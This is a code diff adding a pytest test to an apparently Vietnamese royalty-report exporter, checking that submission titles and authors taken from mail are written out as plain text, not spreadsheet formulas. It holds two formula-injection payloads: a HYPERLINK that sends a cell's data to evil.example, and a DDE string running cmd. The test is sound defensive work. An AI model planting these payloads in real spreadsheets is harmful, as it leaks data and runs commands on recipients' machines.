@@ -488,3 +488,30 @@ def test_periods_read_as_the_board_writes_them() -> None:
     assert periods.last_ended("half_year", at("2026-06-30 23:59"), tz).label == "2025-H2"
     with pytest.raises(periods.PeriodError):
         periods.parse("2026-H3", tz)
+
+
+def test_text_from_mail_is_never_a_formula(deployment: Any, tmp_path: Path) -> None:
+    folder, sessions, _board = deployment
+    title = '=HYPERLINK("http://evil.example/?"&E2,"Bấm để xem")'
+    author = "@SUM(1+1)*cmd|' /C calc'!A0"
+    with sessions.begin() as s:
+        a = s.scalar(select(Submission).where(Submission.tracking_code == "BT-A"))
+        b = s.scalar(select(Submission).where(Submission.tracking_code == "BT-B"))
+        assert a is not None and b is not None
+        a.title, b.author = title, author
+    out = tmp_path / "out"
+    assert cli(folder, "report", "royalty", "--period", "2026-H1", "--out", str(out)) == 0
+
+    book = openpyxl.load_workbook(out / "nhuan-but-demo-2026-H1.xlsx")
+    detail = book["Chi tiết"]
+    a_row, b_row = detail[3], detail[4]  # F, A, B in publication order
+    assert (a_row[2].value, a_row[2].data_type) == (title, "s")
+    assert (b_row[4].value, b_row[4].data_type) == (author, "s")
+    assert (a_row[8].value, a_row[8].data_type) == (225_000, "n")  # numbers stay numbers
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+
+    rows = read_csv(out / "nhuan-but-demo-2026-H1-chi-tiet.csv")
+    assert (rows[2][2], rows[3][4]) == ("'" + title, "'" + author)
+    assert rows[2][8] == "225000"
+    assert read_csv(out / "nhuan-but-demo-2026-H1-tac-gia.csv")[1][1] == "'" + author
